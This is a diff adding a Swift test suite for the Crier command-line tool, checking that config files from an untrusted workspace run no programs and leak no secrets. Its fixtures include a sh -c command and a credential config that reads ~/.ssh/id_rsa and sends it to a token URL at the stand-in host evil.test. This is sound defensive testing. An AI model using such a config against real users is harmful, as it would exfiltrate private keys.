@@ -1,0 +1,182 @@
+import CrierMessage
+import CrierTestSupport
+import Foundation
+import LoopbackServers
+import Testing
+
+/// A folder from somebody else, whose files name programs to run and secrets to send.
+@Suite("A workspace that the user has not trusted", .timeLimit(.minutes(5))) struct TrustTests {
+  private let home: CrierHome
+  /// Any program of the folder leaves this file.
+  private var trace: String { home.folder.path(of: "trace") }
+
+  init() throws {
+    home = try CrierHome()
+    let program =
+      #"{ command = ["sh", "-c", "echo ran >> \#(home.folder.path(of: "trace")); echo x"] }"#
+    try home.folder.write(
+      """
+      default = "live"
+      [project.live]
+      id = "shop-prod"
+      live = false
+      credentials = \(program)
+      [project.spy]
+      id = "shop-spy"
+      credentials = "env:SPY"
+
+      """, to: "home/crier.toml")
+    try home.folder.write("[Pixel]\nplatform = \"android\"\n", to: "home/devices.toml")
+    try home.folder.write("Pixel = \(program)\n", to: "home/devices.local.toml")
+    try home.folder.write(
+      #"{"message": {"topic": "all", "notification": {"title": "Hi"}}}"#, to: "home/m.json")
+  }
+
+  private var hasRun: Bool { FileManager.default.fileExists(atPath: trace) }
+
+  private func crier(_ arguments: [String], stdin: String = "") async throws
+    -> CrierCommand.Outcome
+  {
+    try await CrierCommand.run(
+      arguments, stdin: stdin, home: home,
+      environment: ["https_proxy": "http://127.0.0.1:1", "SPY": "/open-sesame"])
+  }
+
+  @Test(
+    "runs nothing, shows no variable, and ends with 77 and the command to type",
+    arguments: [
+      ["send", "m.json", "--dry-run"], ["send", "m.json", "--yes=all"],
+      ["send", "m.json", "--project", "spy", "--dry-run"],
+      ["send", "m.json", "--to-device", "Pixel", "--dry-run"],
+      ["send", "m.json", "--test-devices", "--dry-run"],
+      ["topics", "show", SendCommandTests.token], ["groups", "show", "team"],
+      ["report", "delivery", "--app", "1:2:android:3"],
+    ])
+  func command(arguments: [String]) async throws {
+    let outcome = try await crier(arguments)
+    #expect(outcome.code == 77, "\(outcome.stderr)")
+    #expect(outcome.stderr.contains("You have not trusted"))
+    #expect(outcome.stderr.contains("crier project trust"))
+    #expect(!outcome.stderr.contains("sesame"))
+    #expect(!hasRun)
+  }
+
+  @Test(
+    "runs nothing for commands that send nothing",
+    arguments: [
+      ["doctor"], ["doctor", "--project", "spy"], ["project"], ["project", "show", "spy"],
+      ["devices", "list"], ["check", "m.json"], ["preview", "m.json"], ["history", "list"],
+      ["project", "trust"],
+    ])
+  func look(arguments: [String]) async throws {
+    let outcome = try await crier(arguments)
+    #expect(!hasRun)
+    #expect(!(outcome.stdout + outcome.stderr).contains("sesame"))
+  }
+
+  @Test("can only restrict, also what options name")
+  func restricts() async throws {
+    let live = try await crier([
+      "send", "m.json", "--project", "shop-prod", "--access-token-command", "echo x",
+    ])
+    #expect(live.code == 64)
+    #expect(live.stderr.contains("in live project shop-prod"), "\(live.stderr)")
+    try home.folder.write(
+      "[project.live]\nid = \"shop-prod\"\nallow = [\"device\"]\n", to: "home/crier.toml")
+    let limited = try await crier([
+      "send", "m.json", "--project", "shop-prod", "--access-token-command", "echo x", "--yes=all",
+    ])
+    #expect(limited.code == 64)
+    #expect(limited.stderr.contains("allows only single devices"))
+  }
+
+  @Test("runs nothing on the sandbox or in plain mode")
+  func plain() async throws {
+    let lines = "devices\nproject live\ndoctor\nsend to Pixel\nquit\n"
+    let sandbox = try await crier(["--plain", "--sandbox"], stdin: lines)
+    #expect(!hasRun, "\(sandbox.stdout)")
+    let other = try await crier(["--plain"], stdin: "send\nquit\n")
+    #expect(other.code == 77)
+    #expect(other.stderr.contains("crier project trust"))
+    #expect(!hasRun)
+  }
+
+  @Test("is asked about once, and again when the content changes")
+  func once() async throws {
+    for answer in ["n", "y"] {
+      let crier = try CrierProcess(
+        "send", "m.json", "--dry-run", columns: 120, home: home,
+        environment: ["https_proxy": "http://127.0.0.1:1"])
+      try await crier.screen(showing: "Trust them until the content changes? [y/N]")
+      let screen = try await crier.screen(showing: "runs sh -c")
+      #expect(screen.contains("for Pixel") && screen.contains("not live"))
+      crier.send(answer + "\n")
+      let status = try await crier.exitStatus()
+      #expect(status == (answer == "n" ? 77 : 75))
+    }
+    #expect(hasRun)
+    let trusted = try await crier(["send", "m.json", "--dry-run"])
+    #expect(trusted.code == 75)
+    try home.folder.write(
+      try home.folder.text(of: "home/crier.toml") + "\n# changed\n", to: "home/crier.toml")
+    let changed = try await crier(["send", "m.json", "--dry-run"])
+    #expect(changed.code == 77)
+    #expect(changed.stderr.contains("has changed since you trusted it"))
+    let seen = try await crier(["project", "trust", "--yes"])
+    #expect(seen.code == 0)
+    #expect(seen.stderr.contains("shop-prod"))
+    #expect(try await crier(["send", "m.json", "--dry-run"]).code == 75)
+    #expect(try await crier(["project", "trust"]).stderr.contains("nothing here that needs trust"))
+  }
+
+  @Test("is trusted where Crier itself has written it, but nobody else's line with it")
+  func written() async throws {
+    try FileManager.default.removeItem(atPath: home.folder.path(of: "home/devices.local.toml"))
+    let add = ["devices", "add", "Mine", "--platform", "android", "--token", "-"]
+    #expect(try await crier(add, stdin: SendCommandTests.token).code == 0)
+    let list = try await crier(["devices", "list"])
+    #expect(!list.stderr.contains("not trusted"), "\(list.stderr)")
+    try home.folder.write(
+      "Spy = \"token-of-a-spy\"\n" + (try home.folder.text(of: "home/devices.local.toml")),
+      to: "home/devices.local.toml")
+    #expect(try await crier(add, stdin: SendCommandTests.token).code == 0)
+    #expect(try await crier(["devices", "list"]).stderr.contains("has changed since you trusted"))
+  }
+
+  @Test("is never used if every user can write to it, even if it was trusted")
+  func open() async throws {
+    try home.trust("home/crier.toml")
+    #expect(unsafe chmod(home.folder.path(of: "home/crier.toml"), 0o666) == 0)
+    let outcome = try await crier(["send", "m.json", "--dry-run"])
+    #expect(outcome.code == 66)
+    #expect(outcome.stderr.contains("Every user of this machine can write to"))
+    #expect(!hasRun)
+  }
+
+  @Test("sends no file from elsewhere as a subject token, and asks no strange host")
+  func subject() async throws {
+    let server = try LoopbackServer { _ in .answer(200, "{}") }
+    try home.folder.write("secret", to: "home/.ssh/id_rsa")
+    func write(_ host: String) throws {
+      try home.folder.write(
+        """
+        {"type": "external_account", "audience": "a", "subject_token_type": "t",
+         "token_url": "\(host)", "credential_source": {"file": ".ssh/id_rsa"}}
+        """, to: "home/keys/wi.json")
+      try home.writeTrusted(
+        "[project.a]\nid = \"shop-a\"\ncredentials = \"file:keys/wi.json\"\n", to: "home/crier.toml"
+      )
+    }
+    try write("http://127.0.0.1:\(server.port)/token")
+    let outside = try await crier(["send", "m.json", "--dry-run"])
+    #expect(outside.code == 77)
+    #expect(outside.stderr.contains("crier project trust"), "\(outside.stderr)")
+    let shown = try await crier(["project", "trust", "keys/wi.json"])
+    #expect(shown.stderr.contains("reads ~/.ssh/id_rsa and sends its content to 127.0.0.1"))
+    try write("https://evil.test/token")
+    let strange = try await crier(["send", "m.json", "--dry-run"])
+    #expect(strange.code == 77)
+    #expect(strange.stderr.contains("names the server evil.test"), "\(strange.stderr)")
+    #expect(server.requests.isEmpty)
+  }
+}
